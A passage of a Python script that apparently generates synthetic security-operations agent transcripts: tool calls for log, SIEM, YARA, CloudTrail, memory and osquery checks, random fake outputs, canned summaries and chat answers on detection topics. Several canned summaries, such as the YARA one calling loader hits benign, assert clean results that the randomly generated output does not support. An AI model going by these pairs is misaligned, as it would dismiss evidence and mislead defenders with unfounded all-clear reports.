              f"Updated Date: {_ts(r)}", f"Creation Date: {_ts(r)}", f"Registry Expiry Date: 2026-{r.randint(1, 12):02d}-{r.randint(1, 28):02d}T00:00:00Z",
              "Registrar: NameSilo, LLC", "Registrar IANA ID: 1479", "Registrant Organization: PrivacyGuardian.org llc", f"Registrant Country: {r.choice(COUNTRIES)}",
              "Name Server: NS1.DNSOWL.COM", "Name Server: NS2.DNSOWL.COM", "DNSSEC: unsigned", ">>> Last update of WHOIS database: " + _ts(r) + " <<<"]
    return Step("shell", {"command": f"dig {d} ANY +noall +answer; whois {d}"}, "\n".join(lines),
                f"{d} resolves to {', '.join(ips)}, privacy-protected registrant, created this year.",
                (f"whois + dns for {d}", f"how old is {d}", f"dig {d}", f"who registered {d}?"), "")


def t_authlog(g: Gen, host: str | None = None) -> Step:
    r, w = g.rng, g.w
    host = host or r.choice(("bastion-01", "sftp-edi-02", "tms-app-03", "gitlab-01", "jump-gbg-01"))
    lines = []
    for _ in range(r.randint(55, 82)):
        pid, ip = r.randint(1000, 99999), r.choice(w.ext_ips[:40] + w.int_ips[:10])
        kind = r.randrange(6)
        t = f"Mar {r.randint(3, 27):>2} {_hms(r)} {host} sshd[{pid}]:"
        lines.append(t + (f" Failed password for invalid user {r.choice(('admin', 'oracle', 'test', 'ubuntu', 'git', 'edi'))} from {ip} port {r.randint(1024, 65535)} ssh2" if kind < 2
                          else f" Accepted publickey for {r.choice(('deploy', 'ansible', 'edi'))} from {ip} port {r.randint(1024, 65535)} ssh2: ED25519 SHA256:{_b64(r, 43)[:43]}" if kind == 2
                          else f" Disconnected from authenticating user root {ip} port {r.randint(1024, 65535)} [preauth]" if kind == 3
                          else f" pam_unix(sshd:session): session opened for user {r.choice(('deploy', 'ansible', 'edi'))}(uid={r.randint(1000, 1010)}) by (uid=0)" if kind == 4
                          else f" Connection closed by {ip} port {r.randint(1024, 65535)} [preauth]"))
    lines.sort()
    return Step("shell", {"command": f"ssh {host} 'sudo grep sshd /var/log/auth.log | tail -n 200' | grep -v CRON"}, "\n".join(lines),
                f"auth.log on {host}: the usual internet brute force against invalid users, key logins only for the automation accounts.",
                (f"grep auth.log on {host} for sshd", f"any ssh logins on {host} that aren't ansible?", f"check auth.log on {host}"), "")


def _conn_rows(g: Gen, src: str, n: int) -> list[list[Any]]:
    r, w = g.rng, g.w
    return [[f"{r.randint(1741000000, 1743000000)}.{r.randint(100000, 999999)}", f"C{_b64(r, 16)[:17]}", src, r.randint(49152, 65535),
             r.choice(w.ext_ips + w.int_ips[:30]), r.choice((443, 443, 80, 53, 445, 8443, 22)), r.choice(("tcp", "tcp", "udp")),
             r.choice(("ssl", "http", "dns", "-", "smb")), f"{r.uniform(0, 900):.6f}", r.randint(0, 90000), r.randint(0, 900000),
             r.choice(("SF", "S0", "REJ", "RSTO", "SF"))] for _ in range(n)]


CONN_HEAD = ["ts", "uid", "id.orig_h", "id.orig_p", "id.resp_h", "id.resp_p", "proto", "service", "duration", "orig_bytes", "resp_bytes", "conn_state"]


def t_zeek_conn(g: Gen, src: str | None = None) -> Step:
    r, w = g.rng, g.w
    src = src or w.pick("int_ips")
    rows = _conn_rows(g, src, r.randint(26, 40))
    out = f"#path conn  (pcap {_hex(r, 8)}.pcap, {r.randint(20, 900)} MB, capture from core-sw-{r.choice(SITES)[0].lower()} SPAN)\n" + "\t".join(CONN_HEAD) + "\n" + "\n".join("\t".join(map(str, x)) for x in rows)
    return Step("shell", {"command": f"zeek-cut -d < conn.log | awk '$3==\"{src}\"' | head -n 60", "cwd": "/cases/pcap"}, out,
                f"{src} made {len(rows)} connections in the capture, mostly TLS to CDN ranges; no long-lived sessions worth flagging.",
                (f"what did {src} talk to in the pcap", f"pcap summary for {src}", f"zeek conns from {src}"), "Reading the Zeek logs.")


def t_conn_siem(g: Gen, src: str | None = None) -> Step:
    r, w = g.rng, g.w
    src = src or w.pick("int_ips")
    rows = [[_ts(r), src, r.choice(w.ext_ips), r.choice((443, 80, 53, 8443, 22, 3389)), r.choice(("allow", "allow", "allow", "deny")),
             r.choice(("ssl", "web-browsing", "dns", "unknown-tcp", "ms-office365")), r.randint(200, 9000000), r.choice(("trust", "dmz"))] for _ in range(r.randint(42, 62))]
    rows.sort()
    q = f'index=pan_logs sourcetype=pan:traffic src_ip="{src}" earliest=-24h | table _time src_ip dest_ip dest_port action app bytes src_zone'
    return Step("siem_search", {"engine": "splunk", "query": q, "earliest": "-24h"},
                f"{len(rows)} results\n\n" + _cols(["_time", "src_ip", "dest_ip", "dest_port", "action", "app", "bytes", "src_zone"], rows),
                f"Outbound from {src}: {len(rows)} sessions, {sum(x[4] == 'deny' for x in rows)} denied, largest transfer {max(x[6] for x in rows):,} bytes.",
                (f"check what {src} talked to outbound in the last 24h", f"outbound traffic from {src}?", f"firewall logs for {src} pls"), "")


def t_yara_scan(g: Gen, host: str | None = None) -> Step:
    r, w = g.rng, g.w
    host = host or w.pick("ws")
    lines = [f"$ yara -r -s -w detections/yara/ /mnt/triage/{host}/Users/"]
    for _ in range(r.randint(15, 25)):
        fam = r.choice(FAMILIES)
        f = f"/mnt/triage/{host}/Users/{w.pick('accounts')}/AppData/{r.choice(('Local/Temp', 'Roaming', 'Local/Microsoft'))}/{_hex(r, 8)}.{r.choice(('dll', 'exe', 'bin', 'dat'))}"
        lines.append(f"NVF_{fam.title()}_{r.choice(('Loader', 'Config', 'Stager'))} {f}")
        lines += [f"0x{r.randint(0, 900000):x}:$s{r.randint(0, 9)}: {_hex(r, r.randint(8, 20))}" for _ in range(r.randint(2, 5))]
    lines.append(f"scanned {r.randint(3000, 90000)} files in {r.uniform(20, 300):.1f}s, {r.randint(0, 3)} errors (permission denied)")
    return Step("shell", {"command": f"yara -r -s -w detections/yara/ /mnt/triage/{host}/Users/", "timeout": 600}, "\n".join(lines),
                f"YARA over the {host} triage image hits a few generic rules; the hits are in temp files that the sandbox already called benign.",
                (f"run our yara rules over the {host} image", f"yara scan {host} triage", f"any yara hits on {host}?"), "Scanning the image.")


def t_hashes(g: Gen, host: str | None = None) -> Step:
    r, w = g.rng, g.w
    host = host or w.pick("ws")
    d = f"/mnt/triage/{host}/ProgramData/{r.choice(('Intel', 'USOShared', 'Microsoft/Crypto', 'Package Cache'))}"
    lines = [f"$ cd '{d}' && sha256sum * && md5sum *"]
    names = [f"{_hex(r, 6)}.{r.choice(('dll', 'exe', 'log', 'tmp', 'dat', 'ps1'))}" for _ in range(r.randint(22, 38))]
    lines += [f"{_hex(r, 64)}  {n}" for n in names] + [f"{_hex(r, 32)}  {n}" for n in names]
    lines += ["$ stat -c '%n %s %y' * | head", *(f"{n} {r.randint(100, 900000)} {_day(r)} {_hms(r)}.{r.randint(0, 999999999):09d} +0100" for n in names[:8])]
    return Step("shell", {"command": f"cd '{d}' && sha256sum * && md5sum *"}, "\n".join(lines),
                f"Hashed {len(names)} files under {d}; none of the sha256s are in our IOC list.",
                (f"hash everything under ProgramData on {host}", f"sha256 + md5 of the files in {d}", f"get me hashes from {host}'s ProgramData"), "")


def _ct_event(g: Gen, acct: str, name: str, ip: str | None = None, extra: dict[str, Any] | None = None) -> dict[str, Any]:
    r, w = g.rng, g.w
    ev = {"eventVersion": "1.09", "eventTime": _ts(r), "eventSource": name.split(":")[0] + ".amazonaws.com", "eventName": name.split(":")[1],
          "awsRegion": r.choice(("eu-north-1", "eu-central-1", "eu-west-1")), "sourceIPAddress": ip or r.choice(w.ext_ips),
          "userAgent": r.choice(("aws-cli/2.15.30 Python/3.11.8 Linux/6.5", "Boto3/1.34.69 md/Botocore#1.34.69", "terraform-provider-aws/5.40.0", "console.amazonaws.com")),
          "userIdentity": {"type": "IAMUser", "accountId": acct, "arn": f"arn:aws:iam::{acct}:user/{r.choice(('ci-deploy', 'tms-export', 'terraform', 'backup-writer'))}",
                           "accessKeyId": "AKIA" + _upper(r, 16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567")},
          "requestParameters": {"bucketName": f"nvf-{r.choice(('tms-exports', 'edi-archive', 'logs', 'backups'))}"} if "s3" in name else {"userName": r.choice(("ci-deploy", "tms-export"))},
          "responseElements": None, "requestID": _uuid(r), "eventID": _uuid(r), "readOnly": name.split(":")[1].startswith(("Get", "List", "Describe")),
          "eventType": "AwsApiCall", "managementEvent": True, "recipientAccountId": acct}
    if extra:
        ev.update(extra)
    return ev


CT_NAMES = ("s3:GetObject", "s3:ListBucket", "iam:ListUsers", "sts:GetCallerIdentity", "ec2:DescribeInstances", "iam:GetUser",
            "s3:PutObject", "logs:FilterLogEvents", "iam:ListAccessKeys", "ec2:DescribeSecurityGroups")


def t_cloudtrail(g: Gen, acct: str | None = None) -> Step:
    r, w = g.rng, g.w
    acct = acct or w.pick("aws")
    evs = [_ct_event(g, acct, r.choice(CT_NAMES)) for _ in range(r.randint(5, 8))]
    return Step("shell", {"command": f"aws cloudtrail lookup-events --profile soc-ro-{acct} --start-time {_day(r)} --max-results 50 --output json"},
                _js({"Events": [{"EventId": e["eventID"], "EventName": e["eventName"], "EventTime": e["eventTime"], "CloudTrailEvent": e} for e in evs]}),
                f"CloudTrail in {acct}: {len(evs)} events, read-only calls from the CI and export users, nothing that creates users or keys.",
                (f"pull cloudtrail for account {acct} since friday", f"cloudtrail lookup on {acct} pls", f"what happened in aws {acct} this week"),
                "Looking up CloudTrail.")


def t_vol(g: Gen, host: str | None = None) -> Step:
    r, w = g.rng, g.w
    host = host or w.pick("ws")
    rows = []
    pid = 4
    for p in ["System", "smss.exe", "csrss.exe", "wininit.exe", "services.exe", "lsass.exe"] + [r.choice(PROCS) for _ in range(r.randint(42, 62))]:
        rows.append([pid, r.randint(4, 900), p, f"0x{_hex(r, 12)}", r.randint(1, 60), r.choice(("-", "-", r.randint(100, 900))), r.choice((0, 1, 1)), "False", f"{_day(r)} {_hms(r)}.000000", "N/A"])
        pid += r.randint(4, 900)
    out = "Volatility 3 Framework 2.7.0\nProgress:  100.00\t\tPDB scanning finished\n\n" + _cols(["PID", "PPID", "ImageFileName", "Offset(V)", "Threads", "Handles", "SessionId", "Wow64", "CreateTime", "ExitTime"], rows)
    return Step("shell", {"command": f"vol -f /cases/mem/{host}.raw windows.pslist", "timeout": 900}, out,
                f"pslist from the {host} memory image: {len(rows)} processes, parent/child pairs look normal, single lsass.",
                (f"run pslist on the {host} memory image", f"vol pslist {host}", f"what was running in memory on {host}"), "Running Volatility.")


def t_proxy(g: Gen, acct: str | None = None) -> Step:
    r, w = g.rng, g.w
    acct = acct or w.pick("accounts")
    lines = []
    for _ in range(r.randint(45, 70)):
        d = r.choice(w.domains[:25] + list(BENIGN_DOMAINS))
        lines.append(f"{_ts(r)} zscaler action={r.choice(('Allowed', 'Allowed', 'Allowed', 'Blocked'))} user={acct}@{DOMAIN} src={w.pick('int_ips')} "
                     f"url=https://{d}/{_hex(r, r.randint(0, 12))} cat={r.choice(('Business', 'Newly Registered Domains', 'Phishing', 'CDN', 'Webmail', 'Uncategorized'))} "
                     f"method={r.choice(('GET', 'GET', 'POST', 'CONNECT'))} status={r.choice((200, 200, 302, 403, 204))} bytes_out={r.randint(200, 90000)} bytes_in={r.randint(200, 9000000)} ua=\"Mozilla/5.0 (Windows NT 10.0; Win64; x64)\"")
    lines.sort()
    return Step("siem_search", {"engine": "splunk", "query": f'index=proxy user="{acct}@{DOMAIN}" earliest=-48h | sort _time', "earliest": "-48h"}, "\n".join(lines),
                f"{acct}'s proxy traffic over 48h: {len(lines)} requests, {sum('Blocked' in x for x in lines)} blocked, nothing posting large volumes.",
                (f"proxy logs for {acct} last 48h", f"where did {acct} browse yesterday", f"zscaler logs {acct} pls"), "")


ALERT_TITLES = ("Suspicious PowerShell command line", "Possible credential dumping", "Anomalous token", "Suspicious inbox forwarding rule",
                "Mass download by a single user", "Unfamiliar sign-in properties", "Suspicious process injection", "Connection to a newly registered domain",
                "Ransomware-linked behavior blocked", "Suspicious scheduled task", "LOLBin download cradle", "Impossible travel activity")


def _alert(g: Gen, title: str | None = None, host: str | None = None, sha: str | None = None) -> dict[str, Any]:
    r, w = g.rng, g.w
    return {"alertId": f"da{_hex(r, 18)}_{r.randint(10**8, 10**9)}", "title": title or r.choice(ALERT_TITLES), "severity": r.choice(("Informational", "Low", "Medium", "High")),
            "status": r.choice(("New", "InProgress", "Resolved")), "category": r.choice(("Execution", "CredentialAccess", "InitialAccess", "Persistence", "CommandAndControl")),
            "detectionSource": r.choice(("EDR", "MDO", "MDI", "CustomDetection")), "firstActivity": _ts(r), "lastActivity": _ts(r),
            "devices": [{"deviceDnsName": f"{(host or w.pick('ws')).lower()}.{AD}", "osPlatform": "Windows11", "riskScore": r.choice(("Low", "Medium", "High"))}],
            "evidence": [{"entityType": "File", "sha256": sha or _hex(r, 64), "fileName": f"{_hex(r, 6)}.{r.choice(('dll', 'exe', 'ps1'))}"},
                         {"entityType": "User", "accountName": w.pick("accounts"), "domainName": "NORRVIK"},
                         {"entityType": "Ip", "ipAddress": w.pick("ext_ips")}],
            "mitreTechniques": [t for t, _ in r.sample(TECHNIQUES, 2)]}


def t_alerts(g: Gen) -> Step:
    r = g.rng
    alerts = [_alert(g) for _ in range(r.randint(6, 10))]
    hi = sum(a["severity"] == "High" for a in alerts)
    return Step("siem_search", {"engine": "defender", "query": "alerts | where status != 'Resolved' | top 25 by lastActivity", "timespan": "P1D"},
                _js({"@odata.context": "https://api.security.microsoft.com/api/$metadata#Alerts", "value": alerts}),
                f"{len(alerts)} open alerts in the last day, {hi} high: mostly the known noisy PowerShell rule and sign-in properties.",
                ("what's in the alert queue", "any new alerts overnight?", "show me open defender alerts", "queue status pls", "was gibt's neues in der queue"), "")


def t_osquery(g: Gen, host: str | None = None) -> Step:
    r, w = g.rng, g.w
    host = host or w.pick("ws")
    what = r.randrange(3)
    if what == 0:
        q = "SELECT name, action, path, enabled, last_run_time FROM scheduled_tasks WHERE enabled=1;"
        rows = [[f"\\{r.choice(('Microsoft', 'Adobe', 'Google', 'NVF'))}\\{r.choice(('Windows', 'Office', 'Update', 'Inventory'))}\\{_hex(r, 6)}", r.choice(PROCS), r.choice(("C:\\Windows\\System32", "C:\\Program Files\\Common Files")), 1, r.randint(1741000000, 1743000000)] for _ in range(r.randint(32, 50))]
        head = ["name", "action", "path", "enabled", "last_run_time"]
    elif what == 1:
        q = "SELECT name, path, source FROM startup_items;"
        rows = [[r.choice(("OneDrive", "Teams", "SecurityHealth", "SAPLogon", "ZebraSetup", "CiscoSpark", "Greenshot")) + str(r.randint(1, 9)), f"C:\\Program Files\\{_hex(r, 5)}\\{r.choice(PROCS)}", r.choice(("HKLM\\...\\Run", "HKCU\\...\\Run", "Startup folder"))] for _ in range(r.randint(30, 45))]
        head = ["name", "path", "source"]
    else:
        q = "SELECT pid, name, remote_address, remote_port, state FROM process_open_sockets JOIN processes USING (pid) WHERE remote_port != 0;"
        rows = [[r.randint(100, 20000), r.choice(PROCS), r.choice(w.ext_ips + w.int_ips[:20]), r.choice((443, 80, 445, 135, 8443)), r.choice(("ESTABLISHED", "TIME_WAIT", "CLOSE_WAIT"))] for _ in range(r.randint(38, 58))]
        head = ["pid", "name", "remote_address", "remote_port", "state"]
    return Step("shell", {"command": f"osqueryi --json \"{q}\" # via fleet on {host}"}, f"host: {host}  rows: {len(rows)}\n" + _cols(head, rows),
                f"osquery on {host}: {len(rows)} rows, nothing that is not in our software baseline.",
                (f"osquery {host} for scheduled tasks / startup", f"anything persistent on {host}?", f"check autoruns on {host}", f"mira las tareas programadas de {host}"), "")


def t_triage(g: Gen, host: str | None = None) -> Step:
    r, w = g.rng, g.w
    host = host or w.pick("ws")
    rows = [[_ts(r), r.choice(("4688", "4624", "7045", "4104", "1102", "4720", "4732")), r.choice(w.accounts + w.svc), r.choice(PROCS), r.randint(0, 12), r.choice(("-", "lolbin", "encoded", "rare-parent", "-", "-"))] for _ in range(r.randint(42, 65))]
    rows.sort()
    out = "\n".join([f"[triage] parsing /mnt/triage/{host}/Windows/System32/winevt/Logs/*.evtx", f"[triage] {r.randint(40000, 900000)} records, {r.randint(3, 19)} channels",
                     "[triage] scoring with rules/heuristics.yml (v14)", "", _cols(["time", "event_id", "account", "process", "score", "flags"], rows), "",
                     f"[triage] wrote out/{host}_timeline.csv ({len(rows)} rows above threshold)"])
    return Step("shell", {"command": f"python3 scripts/triage.py --host {host} --evtx /mnt/triage/{host} --min-score 0", "cwd": "/home/soc/ir-tools"}, out,
                f"Triage of {host}'s event logs: {len(rows)} rows above threshold, top scores from expected admin activity.",
                (f"run the triage script on {host}'s evtx", f"triage.py over {host} pls", f"timeline for {host} from the event logs"), "Running the triage script.")


def t_okta(g: Gen, acct: str | None = None) -> Step:
    r, w = g.rng, g.w
    acct = acct or w.pick("accounts")
    evs = [{"uuid": _uuid(r), "published": _ts_ms(r), "eventType": r.choice(("user.session.start", "user.authentication.auth_via_mfa", "policy.evaluate_sign_on", "user.mfa.okta_verify.deny_push", "app.oauth2.as.token.grant")),
            "displayMessage": r.choice(("User login to Okta", "Authentication of user via MFA", "Evaluation of sign-on policy", "User rejected Okta push verify")),
            "actor": {"alternateId": f"{acct}@{DOMAIN}", "type": "User"}, "client": {"ipAddress": r.choice(w.ext_ips), "geographicalContext": {"country": r.choice(("Sweden", "Germany", "Netherlands", "Poland"))},
                                                                                     "userAgent": {"browser": r.choice(("CHROME", "EDGE", "SAFARI")), "os": r.choice(("Windows 10", "iOS", "Mac OS X"))}},
            "outcome": {"result": r.choice(("SUCCESS", "SUCCESS", "FAILURE", "DENY")), "reason": r.choice((None, "INVALID_CREDENTIALS", "VERIFICATION_ERROR"))},
            "transaction": {"id": _b64(r, 20)[:20]}, "debugContext": {"debugData": {"requestUri": "/idp/idx/authenticators/poll", "threatSuspected": "false", "url": f"/idp/idx/challenge?{_hex(r, 12)}", "dtHash": _hex(r, 64)}}} for _ in range(r.randint(12, 20))]
    return Step("iam_query", {"source": "okta", "filter": f"actor.alternateId eq \"{acct}@{DOMAIN}\"", "since": "-7d"}, _js(evs),
                f"Okta log for {acct}: {len(evs)} events, {sum(e['outcome']['result'] != 'SUCCESS' for e in evs)} failed or denied, no push-bombing pattern.",
                (f"okta system log for {acct}", f"did {acct} get push bombed? check okta", f"okta events {acct} last week"), "")


def t_eml(g: Gen) -> Step:
    r, w = g.rng, g.w
    d = w.pick("domains")
    path = f"/cases/mail/{_hex(r, 10)}.eml"
    hops = [f"Received: from {r.choice(('mail', 'smtp', 'mx', 'out'))}{r.randint(1, 9)}.{r.choice(w.domains)} ({w.pick('ext_ips')}) by {r.choice(('EUR05', 'DB8PR', 'AM6PR'))}{_hex(r, 4).upper()}.outlook.com with Microsoft SMTP Server id 15.20.{r.randint(7000, 8000)}.{r.randint(10, 40)}; {_day(r)} {_hms(r)} +0000" for _ in range(r.randint(4, 7))]
    body = "\n".join(hops + [f"Authentication-Results: spf={r.choice(('fail', 'softfail', 'pass'))} (sender IP is {w.pick('ext_ips')}) smtp.mailfrom={d}; dkim=none (message not signed) header.d=none; dmarc={r.choice(('fail', 'none'))} action=none header.from={d};",
                             f"Return-Path: bounce-{_hex(r, 8)}@{d}", f"From: \"{r.choice(('DHL Express', 'Microsoft 365', 'Norrvik Payroll', 'Maersk Booking'))}\" <no-reply@{d}>",
                             f"To: {w.pick('accounts')}@{DOMAIN}", f"Subject: {r.choice(('Action required: shipment on hold', 'Your mailbox is almost full', 'Updated remittance', 'Invoice attached'))}",
                             f"Date: {_day(r)} {_hms(r)} +0100", f"Message-ID: <{_hex(r, 20)}@{d}>", f"X-MS-Exchange-Organization-SCL: {r.randint(1, 9)}",
                             f"X-Forefront-Antispam-Report: CIP:{w.pick('ext_ips')};CTRY:{r.choice(COUNTRIES)};LANG:en;SCL:{r.randint(1, 9)};SRV:;IPV:NLI;SFV:SPM;",
                             "Content-Type: multipart/mixed; boundary=\"----=_Part_" + _hex(r, 12) + "\"", "", "(body omitted, 2 parts, 1 attachment)"])
    return Step("read_file", {"path": path}, body, f"The headers show {d} with SPF/DMARC failing and {len(hops)} hops; sent through a bulk relay.",
                ("parse the headers of the phish Sven forwarded", f"read {path}", "what do the received headers say on the reported mail"), "")


def t_write_note(g: Gen) -> Step:
    r, w = g.rng, g.w
    path = f"notes/{_day(r)}_{r.choice(('shift', 'handover', 'triage', 'scratch'))}.md"
    body = "\n".join([f"# {r.choice(('Shift handover', 'Triage notes', 'Open items'))} {_day(r)}", ""] + [f"- {w.pick('tickets')}: {r.choice(('waiting on user', 'FP, closed', 'needs L3', 'sandbox pending', 'blocked IOC'))}" for _ in range(r.randint(6, 12))])
    return Step("write_file", {"path": path, "content": body}, f"wrote {len(body.encode())} bytes to {path}",
                f"Handover notes written to {path}.", ("write the handover notes", "dump the open items into a notes file", "make me a shift handover"), "Writing the notes.")


def t_edit_rule(g: Gen) -> Step:
    r, w = g.rng, g.w
    topic = r.choice(TOPICS)
    path = f"detections/sigma/{topic}.yml"
    old, new = "  condition: all of selection_* and not 1 of filter_*", f"  condition: all of selection_* and not 1 of filter_*\n  # tuned {_day(r)}: exclude {w.pick('srv')} (backup agent)"
    out = f"edited {path}: 1 hunk, +1 -0\n@@ -{r.randint(20, 40)},3 +{r.randint(20, 40)},4 @@\n{old}\n+  # tuned: exclude backup agent\n falsepositives:\n  - Software deployment via SCCM"
    return Step("edit_file", {"path": path, "old": old, "new": new}, out, f"Tuned {path} with an exclusion for the backup agent.",
                (f"tune the {topic.replace('_', ' ')} rule, the backup agent keeps tripping it", f"add an exclusion to {path}", "fix the noisy rule from this morning"), "Editing the rule.")


def t_kql_process(g: Gen, host: str | None = None) -> Step:
    r, w = g.rng, g.w
    host = host or w.pick("ws")
    rows = [[_ts(r), host.lower(), w.pick("accounts"), r.choice(PROCS), _cmdline(g, r.choice(PROCS))[:90].replace("|", "/"), r.choice(PROCS), _hex(r, 64)[:24] + "…"] for _ in range(r.randint(32, 50))]
    rows.sort()
    q = f"DeviceProcessEvents\n| where DeviceName startswith \"{host.lower()}\"\n| where Timestamp > ago(2d)\n| project Timestamp, DeviceName, AccountName, FileName, ProcessCommandLine, InitiatingProcessFileName, SHA256"
    return Step("siem_search", {"engine": "defender", "query": q, "timespan": "P2D"}, f"{len(rows)} rows\n\n" + _pipe(["Timestamp", "DeviceName", "AccountName", "FileName", "ProcessCommandLine", "InitiatingProcessFileName", "SHA256"], rows),
                f"Process events on {host} for 2 days: {len(rows)} rows, the encoded PowerShell comes from the SCCM client.",
                (f"process events on {host} last 2 days", f"kql DeviceProcessEvents for {host}", f"what ran on {host} since tuesday"), "")


def t_cve(g: Gen, cve: str | None = None) -> Step:
    r, w = g.rng, g.w
    cve = cve or w.pick("cves")
    rows = [[f"vpn-{s[0].lower()}-0{r.randint(1, 3)}", w.pick("int_ips"), r.choice(("Corvane SecureGate 7.2.8", "Corvane SecureGate 7.4.1", "Corvane SecureGate 7.4.3")),
             r.choice(("not affected", "affected", "patched", "not affected")), _ts(r)] for s in SITES for _ in range(r.randint(4, 7))]
    out = "\n".join([f"nvf-vulnscan 2.3.1 - checking {cve} against scope 'edge'", f"advisory: {cve} (CVSS {r.uniform(5, 10):.1f}) fixed in 7.2.9 / 7.4.4", "",
                     _cols(["asset", "ip", "version", "status", "checked"], rows), "", f"{sum(x[3] == 'affected' for x in rows)} affected / {len(rows)} assets"])
    return Step("shell", {"command": f"nvf-vulnscan --cve {cve} --scope edge --format table"}, out,
                f"For {cve}: {sum(x[3] == 'affected' for x in rows)} of {len(rows)} edge assets report an affected version.",
                (f"are we exposed to {cve}? the vendor mail says the vpn boxes", f"check {cve} against the edge", f"sind wir von {cve} betroffen?"), "Checking the edge inventory.")


def t_vlan(g: Gen, vlan: str | None = None) -> Step:
    r, w = g.rng, g.w
    vlan = vlan or w.pick("vlans")
    rows = [[w.host(), w.pick("int_ips"), f"{':'.join(_hex(r, 2) for _ in range(6))}", r.choice(("Windows 11", "Windows Server 2022", "Zebra ZT411", "Linux", "Honeywell CK65")), _ts(r)] for _ in range(r.randint(32, 50))]
    return Step("shell", {"command": f"netbox-cli ipam vlan show '{vlan}' --devices --format table"}, f"{vlan} ({r.choice(SITES)[1]}, {r.choice(('clients', 'warehouse', 'printers', 'servers'))})\n\n" + _cols(["device", "ip", "mac", "platform", "last_seen"], rows),
                f"{vlan} has {len(rows)} devices, mixed clients and handheld scanners.",
                (f"which hosts are in {vlan}? want to scope the scan", f"list devices in {vlan}", f"what's in {vlan}"), "")


def t_zeek_dns(g: Gen, src: str | None = None) -> Step:
    r, w = g.rng, g.w
    src = src or w.pick("int_ips")
    rows = [[f"{r.randint(1741000000, 1743000000)}.{r.randint(100000, 999999)}", src, r.randint(49152, 65535), f"10.{r.choice(SITES)[2]}.0.10", 53,
             r.choice(list(BENIGN_DOMAINS) + w.domains[:20]), r.choice(("A", "A", "AAAA", "TXT", "HTTPS")), r.choice(("NOERROR", "NOERROR", "NXDOMAIN")),
             r.choice((w.pick("ext_ips"), "-"))] for _ in range(r.randint(32, 48))]
    head = ["ts", "id.orig_h", "id.orig_p", "id.resp_h", "id.resp_p", "query", "qtype_name", "rcode_name", "answers"]
    return Step("shell", {"command": f"zeek-cut -d < dns.log | awk '$3==\"{src}\"'", "cwd": "/cases/pcap"}, "#path dns\n" + "\t".join(head) + "\n" + "\n".join("\t".join(map(str, x)) for x in rows),
                f"DNS from {src}: {len(rows)} lookups, mostly Microsoft and SAP; a couple of NXDOMAINs from a typo.",
                (f"dns queries from {src} in the capture", f"zeek dns for {src}", f"what did {src} resolve"), "")


TASKS: tuple[Callable[..., Step], ...] = (
    t_proc_tree, t_signins, t_failed, t_ioc_hash, t_ioc_domain, t_ioc_ip, t_isolate, t_ticket_comment, t_ticket_close, t_fw_block,
    t_fw_show, t_iam_user, t_iam_aws, t_sandbox_file, t_sandbox_url, t_mail_trace, t_read_sigma, t_read_yara, t_read_playbook,
    t_read_config, t_nmap, t_curl, t_dig, t_authlog, t_zeek_conn, t_conn_siem, t_yara_scan, t_hashes, t_cloudtrail, t_vol, t_proxy,
    t_alerts, t_osquery, t_triage, t_okta, t_eml, t_write_note, t_edit_rule, t_kql_process, t_cve, t_vlan, t_zeek_dns)


# --- chat without tools, pasted evidence ---------------------------------------------------------

CONTEXTS = ("helpdesk forwarded another one.", "Sven says the user is travelling this week.", "this came in overnight.",
            "the MSSP flagged it too.", "low prio but I want it off the board.", "Pieter asked about this in the standup.",
            "user swears they didn't click anything.", "same pattern as last week maybe?", "got a teams msg from the Gdańsk IT lead.",
            "this is for the weekly report.", "before I forget:", "for the audit trail:", "while we wait for the sandbox:",
            "Karin wants a status by 3.", "Hamburg warehouse called about this.", "probably nothing but:", "the alert fired twice.",
            "kurz bevor ich in die Pause gehe:", "innan lunch:", "avant la réunion :", "antes de la reunión:")


def _chat(g: Gen) -> tuple[str, str]:
    """A question, a hypothetical or small talk, and the agent's answer: no tools, no facts."""
    r, w = g.rng, g.w
    host, acct, t = w.pick("ws"), w.pick("accounts"), w.pick("tickets")
    tech = r.choice(TECHNIQUES)
    pairs = (
        (f"whats the mitre id for {tech[1].lower()} again", f"{tech[1]} is {tech[0]}. If you tag the ticket, use the sub-technique where we know it; the parent id is fine when we do not."),
        ("hmm. lunch, back in 20", "Sure. Nothing in the queue is waiting on you right now; I'll hold the open searches."),
        ("ok", "Okay. Tell me what you want next."),
        ("what does ResultType 50126 mean in signin logs?", "50126 is 'Error validating credentials due to invalid username or password'. A burst of them across many users from one IP is the spray pattern; a few for one user is usually a typo."),
        ("if the DC ever got hit we'd probably isolate the whole site, right? not today, just thinking", "That would be the blunt option. A site-wide isolation would stop the warehouse scanners too, so it would be a business call; for one DC we'd more likely cut it from the network at the switch and fail over. Nothing to do now."),
        (f"do we have any rule that says we can't block geo ranges? {PEOPLE[3][0].split()[0]} asked", "Nothing about geo ranges specifically. The edge has a deny-bad-geo rule already; whether to extend it is a network-team call."),
        ("what would happen if we turned off legacy auth tomorrow, hypothetically", "Hypothetically: the old scanners in Rotterdam and two SAP batch jobs still use basic auth to EWS, so they would break. A report-only conditional-access policy for a week would tell us exactly who."),
        (f"why is {host} always in the top 10 of the noisy list", f"{host} runs the inventory agent that spawns PowerShell every 15 minutes with an encoded command; it trips the encoded-PowerShell rule each time. A tuned exclusion on the parent path would fix it."),
        ("ugh this queue 😩", "It's long, but most of it is the two noisy rules. If we close those duplicates the real queue is about a dozen items."),
        (f"can you remind me what {t} was about", f"{t} is one of the older phishing tickets in the board; I don't have more than its number in front of me. Want me to pull it?"),
        ("is kerberoasting detectable without MDI?", "Yes: 4769 events with ticket encryption type 0x17 (RC4) for service accounts, from a client that doesn't normally request them. Volume per user per hour is the useful threshold."),
        ("what's a good way to explain token theft to the CFO", "Something like: the attacker doesn't need the password or the phone, they copy the 'already logged in' pass from the browser. Resetting the password alone doesn't help; we also have to revoke the sessions."),
        (f"should we care that {acct} logs in from two countries? she commutes Malmö-Copenhagen", "Then no: SE and DK alternating on a commuter's phone is expected. It becomes interesting only with a third location or a new device."),
        ("kannst du mir kurz erklären was ein AiTM-Phish ist", "Ein Adversary-in-the-Middle-Phish schaltet einen Proxy zwischen Opfer und echte Login-Seite. Der Nutzer macht MFA ganz normal, der Angreifer fängt das Session-Cookie ab. Passwort-Reset allein reicht dann nicht; Sessions müssen widerrufen werden."),
        ("vad är skillnaden mellan contain och isolate i vår EDR?", "I vår EDR är det samma sak: 'contain' är API-namnet, 'isolate' är knappen i konsolen. Värden tappar nätverket utom mot EDR-molnet och de allow-listade servrarna."),
        ("c'est quoi déjà la rétention des logs proxy ?", "Les logs Zscaler sont gardés 90 jours dans Splunk et six mois en archive froide."),
